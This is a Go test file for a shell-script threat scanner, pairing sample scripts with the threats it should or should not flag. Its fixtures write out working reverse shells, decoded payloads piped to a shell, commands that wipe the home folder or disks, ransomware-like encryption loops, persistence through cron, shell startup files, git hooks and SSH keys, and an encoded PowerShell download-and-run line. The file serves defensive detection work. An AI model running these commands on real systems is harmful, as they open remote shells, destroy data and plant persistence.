package shellscan

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// threatCases are scripts and the threats Analyze finds in them, in the
// form of Threat.String without its detail: "rule command line".
var threatCases = []struct {
	name, src string
	want      []string
}{
	// reverse shells
	{"bash -i onto /dev/tcp", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/8080 0>&1\n", []string{"reverse-shell bash 2"}},
	{"sh with input from /dev/udp", "sh -i 0</dev/udp/192.0.2.7/53 1>&0\n", []string{"reverse-shell sh 1"}},
	{"exec fd<> /dev/tcp", "exec 5<>/dev/tcp/192.0.2.7/443\ncat <&5 | while read l; do $l 2>&5 >&5; done\n", []string{"reverse-shell exec 1"}},
	{"exec fd<> loopback is a port check", "exec 3<>/dev/tcp/127.0.0.1/80\necho ok\n", nil},
	{"port check through /dev/tcp", "if timeout 1 bash -c '</dev/tcp/localhost/5432'; then echo up; fi\n", nil},
	{"nc -e", "nc -e /bin/sh 192.0.2.7 4444\n", []string{"reverse-shell nc 1"}},
	{"nc clustered -nve", "/usr/bin/nc -nve /bin/bash 192.0.2.7 4444\n", []string{"reverse-shell nc 1"}},
	{"ncat --sh-exec", "ncat --sh-exec 'bash -i' 192.0.2.7 4444\n", []string{"reverse-shell ncat 1"}},
	{"nc -z port scan", "nc -z -w1 localhost 8080 && echo open\n", nil},
	{"mkfifo pipeline over lines", "mkfifo /tmp/f\ncat /tmp/f |\n  /bin/sh -i 2>&1 |\n  nc 192.0.2.7 4444 > /tmp/f\n", []string{"reverse-shell nc 4"}},
	{"telnet pipes", "telnet 192.0.2.7 23 | /bin/bash | telnet 192.0.2.7 24\n", []string{"reverse-shell telnet 1"}},
	{"openssl s_client into sh", "mkfifo q; /bin/sh -i < q 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > q\n", []string{"reverse-shell openssl 1"}},
	{"socat exec", "socat exec:'bash -li',pty,stderr tcp:192.0.2.7:4444\n", []string{"reverse-shell socat 1"}},
	{"socat SYSTEM upper case", "socat TCP4:192.0.2.7:9 SYSTEM:sh\n", []string{"reverse-shell socat 1"}},
	{"socat port forward", "socat TCP-LISTEN:8080,fork TCP:localhost:80\n", nil},
	{"inside sh -c", "nohup sh -c 'sleep 60; bash -i >& /dev/tcp/192.0.2.7/1 0>&1' &\n", []string{"reverse-shell bash 1"}},
	{"inside eval of a constant", "c='nc -e /bin/sh 192.0.2.7 1'\neval \"$c\"\n", []string{"reverse-shell nc 2"}},
	{"nc in a string only", "echo 'nc -e /bin/sh 192.0.2.7 1' > notes.txt\n", nil},
	// decoded payloads
	{"printf hex into sh", "printf '\\x65\\x63\\x68\\x6f' | sh\n", []string{"decoded-payload-to-shell sh 1"}},
	{"base64 -d into bash over lines", "echo ZWNobyBoaQ== |\n  base64 -d |\n  bash\n", []string{"decoded-payload-to-shell bash 3"}},
	{"eval of decoded substitution", "P='ZWNobyBoaQ=='\neval \"$(echo \"$P\" | base64 --decode)\"\n", []string{"decoded-payload-to-shell eval 2"}},
	{"xxd -r -p into sh", "echo 6563686f | xxd -r -p | sh -s\n", []string{"decoded-payload-to-shell sh 1"}},
	{"ansi-c quoted into bash", "echo $'\\x65\\x63\\x68\\x6f hi' | bash\n", []string{"decoded-payload-to-shell bash 1"}},
	{"bash -c of printf", "bash -c \"$(printf '\\145\\143\\150\\157 hi')\"\n", []string{"decoded-payload-to-shell bash 1"}},
	{"rev into sh", "echo 'ih ohce' | rev | sh\n", []string{"decoded-payload-to-shell sh 1"}},
	{"base64 -d to a file", "echo \"$IMG\" | base64 -d > logo.png\n", nil},
	{"printf without escapes into sh", "printf '%s\\n' \"$cmd\" | sh -s\n", nil},
	{"decoded to a file, then run", "echo ZWNobw== | base64 -d > /tmp/x.sh\nchmod +x /tmp/x.sh\nsh /tmp/x.sh\n", []string{"decoded-payload-to-shell sh 3"}},
	{"decoded by printf to a file, run by path", "printf '\\145\\143\\150\\157' > ./r\n./r\n", []string{"decoded-payload-to-shell ./r 2"}},
	{"decoded image, only opened", "base64 -d logo.b64 > logo.png\nopen logo.png\n", nil},
	{"decoded into a shell script file", "echo ZWNobw== | base64 -d | bash ./consume.sh\n", nil},
	// destructive commands
	{"rm -rf ~", "rm -rf ~\n", []string{"destroy-files rm 1"}},
	{"rm -rf quoted home glob", "rm -rf \"$HOME\"/*\n", []string{"destroy-files rm 1"}},
	{"rm -fr ${HOME}/", "sudo rm -fr ${HOME}/\n", []string{"destroy-files rm 1"}},
	{"rm -r -f / --no-preserve-root", "rm -r -f --no-preserve-root /\n", []string{"destroy-files rm 1"}},
	{"rm of home glob without -r", "rm -f ~/*\n", []string{"destroy-files rm 1"}},
	{"rm through a constant variable", "TARGET=\"$HOME\"\nsleep 1\nrm -rf \"$TARGET\"/*\n", []string{"destroy-files rm 3"}},
	{"rm through a variable of a variable", "BASE=~\nDOCS=$BASE/Documents\nrm -rf \"$DOCS\"\n", []string{"destroy-files rm 3"}},
	{"rm through a variable set twice", "D=$HOME\nD=./build\nrm -rf \"$D\"\n", nil},
	{"rm through a loop variable", "for d in ~ ./build; do :; done\nrm -rf \"$d\"\n", nil},
	{"rm of a sub-folder of home", "rm -rf ~/.cache/my-skill\n", nil},
	{"rm in a clean-up", "set -eu\nrm -rf ./build ./dist \"${TMPDIR:-/tmp}/build-clean-cache\"\nrm -rf build/ \"$TMPDIR/x\"\n", nil},
	{"rm of /etc", "rm -rf /etc\n", []string{"destroy-files rm 1"}},
	{"find / -delete", "find / -xdev -type f -delete 2>/dev/null\n", []string{"destroy-files find 1"}},
	{"find ~ -exec shred", "find ~ -type f -exec shred -u -n 1 {} +\n", []string{"destroy-files find 1"}},
	{"find ~/Documents -exec rm", "find \"$HOME/Documents\" -name '*' -exec rm -f {} \\;\n", []string{"destroy-files find 1"}},
	{"cd ~ then rm -rf *", "cd ~ || exit\nrm -rf *\n", []string{"destroy-files rm 2"}},
	{"cd / then rm -rf .", "cd /\nrm -rf --no-preserve-root .\n", []string{"destroy-files rm 2"}},
	{"cd to a temp folder then rm -rf *", "cd \"$(mktemp -d)\"\nrm -rf *\n", nil},
	{"cd ~ then cd build then rm -rf *", "cd\ncd build\nrm -rf ./*\n", nil},
	{"braces over home folders", "rm -rf ~/{Documents,Desktop}\n", []string{"destroy-files rm 1"}},
	{"braces over build folders", "rm -rf ./{build,dist}\n", nil},
	{"find ~ into xargs rm", "find ~ -type f -print0 |\n  xargs -0 rm -f\n", []string{"destroy-files xargs 2"}},
	{"find ~ into xargs gpg", "find ~ -type f | xargs -I{} gpg -c --batch --passphrase x {}\n", []string{"encrypt-files xargs 1"}},
	{"find . into xargs rm", "find . -name '*.tmp' | xargs rm -f\n", nil},
	{"find node_modules under ~/projects", "find ~/projects -name node_modules -type d -prune -exec rm -rf {} +\n", nil},
	{"find . -delete", "find . -name '*.pyc' -delete\n", nil},
	{"cd ~, git init, git clean -xffd", "cd ~ && git init -q .\ngit clean -xffd\n", []string{"destroy-files git 2"}},
	{"git -C ~ clean", "git -C \"$HOME\" clean --force -d -x\n", []string{"destroy-files git 1"}},
	{"git --work-tree=$HOME clean", "git --git-dir=/tmp/g --work-tree=$HOME clean -fd\n", []string{"destroy-files git 1"}},
	{"GIT_WORK_TREE=~ git clean", "GIT_WORK_TREE=~ git clean -fdx\n", []string{"destroy-files git 1"}},
	{"git clean in the project", "git clean -xfd\ncd \"$HOME/src/app\" && git clean -fdx\n", nil},
	{"git clean -n in home", "cd ~\ngit clean -ndx\n", nil},
	{"truncate a home glob", "truncate -s 0 ~/Documents/*\n", []string{"destroy-files truncate 1"}},
	{"find ~ -exec truncate", "find \"$HOME\" -type f -exec truncate -s 0 {} \\;\n", []string{"destroy-files find 1"}},
	{"find ~ into xargs truncate", "find ~ -name '*.docx' -print0 | xargs -0 truncate --size=0\n", []string{"destroy-files xargs 1"}},
	{"truncate a log", "truncate -s 0 ~/.cache/app/app.log\ntruncate -s 0 ./logs/*\n", nil},
	{"find a cache folder -exec truncate", "find ~/.cache/app -name '*.log' -exec truncate -s 0 {} +\n", nil},
	{"shred a home file", "shred -u ~/.bash_history\n", []string{"destroy-files shred 1"}},
	{"shred a temp file", "shred -u /tmp/key\n", nil},
	{"dd onto a disk", "dd if=/dev/urandom of=/dev/sda bs=1M\n", []string{"wipe-disk dd 1"}},
	{"dd to an image", "dd if=/dev/zero of=disk.img bs=1M count=10\n", nil},
	{"mkfs", "mkfs.ext4 -F /dev/nvme0n1\n", []string{"wipe-disk mkfs.ext4 1"}},
	{"redirect onto a disk", "cat /dev/zero > /dev/sdb\n", []string{"wipe-disk cat 1"}},
	{"encrypt loop over find ~", "for f in $(find ~/Documents -type f); do openssl enc -aes-256-cbc -pass pass:x -in \"$f\" -out \"$f.enc\" && rm -f \"$f\"; done\n", []string{"encrypt-files openssl 1"}},
	{"encrypt loop over a glob, delete in a nested if", "for f in \"$HOME\"/*.pdf; do\n  gpg -c --batch --passphrase x \"$f\"\n  if true; then\n    shred -u \"$f\"\n  fi\ndone\n", []string{"encrypt-files gpg 2"}},
	{"while loop fed by find ~", "find ~ -type f | while read -r f; do\n  openssl enc -aes-256-cbc -k x -in \"$f\" -out \"$f.x\"\n  rm \"$f\"\ndone\n", []string{"encrypt-files openssl 2"}},
	{"find ~ -exec gpg", "find ~ -type f -exec gpg --batch -c --passphrase x {} \\;\n", []string{"encrypt-files find 1"}},
	{"encrypt a backup, keep originals", "for f in ~/notes/*; do gpg -c \"$f\"; done\n", nil},
	{"decrypt loop", "for f in ~/vault/*.enc; do openssl enc -d -aes-256-cbc -in \"$f\" -out \"${f%.enc}\"; rm \"$f\"; done\n", nil},
	// persistence
	{"append to .bashrc", "echo 'sh ~/.u &' >> ~/.bashrc\n", []string{"shell-startup-file echo 1"}},
	{"tee -a .zshrc", "echo x | tee -a \"$HOME/.zshrc\" > /dev/null\n", []string{"shell-startup-file tee 1"}},
	{"cp over .profile", "cp ./profile ~/.profile\n", []string{"shell-startup-file cp 1"}},
	{"sed -i .bashrc", "sed -i '$a alias ls=x' ~/.bashrc\n", []string{"shell-startup-file sed 1"}},
	{"profile.d", "sudo install -m 644 env.sh /etc/profile.d/skill.sh\n", []string{"shell-startup-file install 1"}},
	{"source .bashrc", "source ~/.bashrc\ngrep PATH ~/.bashrc\n", nil},
	{"export PATH", "export PATH=\"$PATH:$HOME/.local/bin\"\n", nil},
	{"crontab -", "(crontab -l 2>/dev/null; echo '@reboot sh ~/.u') | crontab -\n", []string{"scheduled-task crontab 1"}},
	{"crontab file", "crontab /tmp/job\n", []string{"scheduled-task crontab 1"}},
	{"crontab -l", "crontab -l\n", nil},
	{"cron.d", "echo '* * * * * root sh /tmp/u' > /etc/cron.d/skill\n", []string{"scheduled-task echo 1"}},
	{"systemd user unit by here-doc and enable", "mkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/s.service <<'EOF'\n[Service]\nExecStart=/bin/sh -c 'sh ~/.u'\nEOF\nsystemctl --user enable --now s.service\n",
		[]string{"scheduled-task cat 2", "scheduled-task systemctl 6"}},
	{"systemctl status", "systemctl --user status s.service\n", nil},
	{"launch agent", "cp p.plist ~/Library/LaunchAgents/\nlaunchctl load ~/Library/LaunchAgents/p.plist\n", []string{"scheduled-task cp 1", "scheduled-task launchctl 2"}},
	{"git hook through rev-parse", "printf '#!/bin/sh\\nsh ~/.u &\\n' > \"$(git rev-parse --git-dir)/hooks/post-checkout\"\nchmod +x \"$(git rev-parse --git-dir)/hooks/post-checkout\"\n",
		[]string{"git-hook printf 1", "git-hook chmod 2"}},
	{"git hook by ln", "ln -sf ../../hook.sh .git/hooks/pre-commit\n", []string{"git-hook ln 1"}},
	{"core.hooksPath", "git config core.hooksPath .hooks\n", []string{"git-hook git 1"}},
	{"reading a hook", "cat .git/hooks/pre-commit.sample\n", nil},
	{"authorized_keys", "cat k.pub >> ~/.ssh/authorized_keys\n", []string{"authorized-keys cat 1"}},
	{"authorized_keys by tee", "echo \"$KEY\" | sudo tee -a /root/.ssh/authorized_keys\n", []string{"authorized-keys tee 1"}},
	{"known_hosts", "ssh-keyscan github.com >> ~/.ssh/known_hosts\n", nil},
	{"in a here-document that is not run", "cat <<'EOF'\nrm -rf ~\nnc -e /bin/sh h 1\nEOF\n", nil},
	{"in a comment", "# rm -rf ~ ; bash -i >& /dev/tcp/h/1 0>&1\necho ok\n", nil},
	// forms a reviewer may mistake for threats, and a few more that are
	{"export X keeps its value", "D=$HOME\nexport D\nrm -rf \"$D\"\n", []string{"destroy-files rm 3"}},
	{"parted print", "parted /dev/sda print\nfdisk -l /dev/sda\nwipefs /dev/sdb\n", nil},
	{"wipefs -a", "wipefs -a /dev/sdb\n", []string{"wipe-disk wipefs 1"}},
	{"chmod 755 a hook", "chmod 755 .git/hooks/pre-push\n", []string{"git-hook chmod 1"}},
	{"chmod 644 a hook", "chmod 644 .git/hooks/pre-push\n", nil},
	{"unset core.hooksPath", "git config --unset core.hooksPath\n", nil},
	{"a python script's output to /dev/tcp", "python3 report.py > /dev/tcp/192.0.2.7/9\n", nil},
	{"python reading its program from /dev/tcp", "python3 - < /dev/tcp/192.0.2.7/9\n", []string{"reverse-shell python3 1"}},
}

func TestThreats(t *testing.T) {
	for _, tc := range threatCases {
		t.Run(tc.name, func(t *testing.T) {
			sc, err := Analyze([]byte(tc.src), "t.sh")
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			var got []string
			for _, th := range sc.Threats {
				got = append(got, fmt.Sprintf("%s %s %d", th.Rule, th.Command, th.Line))
				if th.Detail == "" {
					t.Errorf("threat %v has no detail", th)
				}
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("threats\n got: %q\nwant: %q\n%v", got, tc.want, sc.Threats)
			}
		})
	}
}

// TestThreatsHostile: a large script and deeply nested ones are read in
// time proportional to their size, and nested -c strings stop at
// maxNesting.
func TestThreatsHostile(t *testing.T) {
	big := strings.Repeat("for f in ~/*; do rm \"$f\"; X=$HOME; rm -rf \"$X\"/*; echo a | base64 -d | sh; done\n", 2000)
	start := time.Now()
	sc, err := Analyze([]byte(big), "big.sh")
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("a %d-byte script took %v", len(big), d)
	}
	// X is assigned 2000 times to the same value: still constant.
	if n := len(sc.Threats); n != 4000 {
		t.Errorf("%d threats; want 4000", n)
	}

	nested := strings.Repeat("$(", 500) + "echo" + strings.Repeat(")", 500) + "\n" +
		strings.Repeat("if true; then ", 500) + "rm -rf ~" + strings.Repeat("; fi", 500) + "\n"
	sc, err = Analyze([]byte(nested), "nested.sh")
	if err != nil {
		t.Fatal(err)
	}
	if len(sc.Threats) != 1 || sc.Threats[0].Line != 2 {
		t.Errorf("nested: %v; want one destroy-files at line 2", sc.Threats)
	}

	// Variables doubling with each assignment stop at maxValue.
	var dbl strings.Builder
	dbl.WriteString("V0=abcdefgh\n")
	for i := 1; i < 80; i++ {
		fmt.Fprintf(&dbl, "V%d=$V%d$V%d\n", i, i-1, i-1)
	}
	dbl.WriteString("rm -rf \"$V79\" ~\n")
	start = time.Now()
	sc, err = Analyze([]byte(dbl.String()), "double.sh")
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 2*time.Second || len(sc.Threats) != 1 {
		t.Errorf("doubling variables: %v in %v; want one threat, fast", sc.Threats, d)
	}

	// sh -c 'sh -c "…"' nested beyond the bound: the innermost is not read.
	inner := "rm -rf ~"
	for range maxNesting + 1 {
		inner = "sh -c " + shellQuote(inner)
	}
	sc, err = Analyze([]byte(inner+"\n"), "deep.sh")
	if err != nil {
		t.Fatal(err)
	}
	if len(sc.Threats) != 0 {
		t.Errorf("beyond the nesting bound: %v; want none", sc.Threats)
	}
	inner = "rm -rf ~"
	for range maxNesting {
		inner = "sh -c " + shellQuote(inner)
	}
	sc, _ = Analyze([]byte("true\n"+inner+"\n"), "deep.sh")
	if len(sc.Threats) != 1 || sc.Threats[0].Line != 2 {
		t.Errorf("at the nesting bound: %v; want one at line 2", sc.Threats)
	}
}

// shellQuote quotes s for sh in single quotes.
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

func TestDangerous(t *testing.T) {
	for p, want := range map[string]bool{
		"/": true, "/*": true, "$HOME": true, "$HOME/": true, "$HOME/*": true, "${HOME}/.*": true,
		"/etc/": true, "/home/*": true, "$HOME/Documents": true, "$HOME/.ssh/": true,
		"$HOME/.cache/x": false, "/tmp/x": false, "./build": false, "build/": false, "": false, "/etc/hosts": false,
	} {
		if got := dangerous(p) != ""; got != want {
			t.Errorf("dangerous(%q) = %v, want %v", p, got, want)
		}
	}
}

// TestInline: the programs a script gives other interpreters, with the line
// of their first line: -c/-e words, clustered Perl flags, here-documents and
// here-strings read as the program, and a nested sh -c's at its own line.
func TestInline(t *testing.T) {
	src := `python3 -c 'print(1)'
node --eval "console.log(2)"
perl -lne 'print if /x/' f.txt
python3 tool.py -c 'not code'
python3 - <<'PY'
import os
PY
ruby <<< 'puts 3'
sh -c "node -e 'x()'"
python3 script.py <<PY
data, not code
PY
`
	s, err := Analyze([]byte(src), "t.sh")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, in := range s.Inline {
		got = append(got, fmt.Sprintf("%s@%d/%v %q", in.Interp, in.Line, in.Fixed, in.Code))
	}
	want := []string{
		`python3@1/false "print(1)"`,
		`node@2/false "console.log(2)"`,
		`perl@3/false "print if /x/"`,
		`python3@6/false "import os\n"`,
		`ruby@8/false "puts 3"`,
		`node@9/true "x()"`,
	}
	if !slices.Equal(got, want) {
		t.Fatalf("inline\n%q\nwant\n%q", got, want)
	}
}

// TestInlineEncodedCommand: pwsh's -EncodedCommand (any prefix, after
// options with values) is decoded from base64 of UTF-16LE into the program.
func TestInlineEncodedCommand(t *testing.T) {
	enc := "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA" // IEX (iwr http://x)
	src := "powershell.exe -NoP -ExecutionPolicy Bypass -w hidden -enc " + enc + "\npwsh -EncodedCommand " + enc + "\npwsh -File a.ps1 -enc " + enc + "\n"
	s, err := Analyze([]byte(src), "t.sh")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, in := range s.Inline {
		got = append(got, fmt.Sprintf("%s@%d/%v %q", in.Interp, in.Line, in.Fixed, in.Code))
	}
	want := []string{`powershell.exe@1/true "IEX (iwr http://x)"`, `pwsh@2/true "IEX (iwr http://x)"`}
	if !slices.Equal(got, want) {
		t.Fatalf("inline %q; want %q", got, want)
	}
}
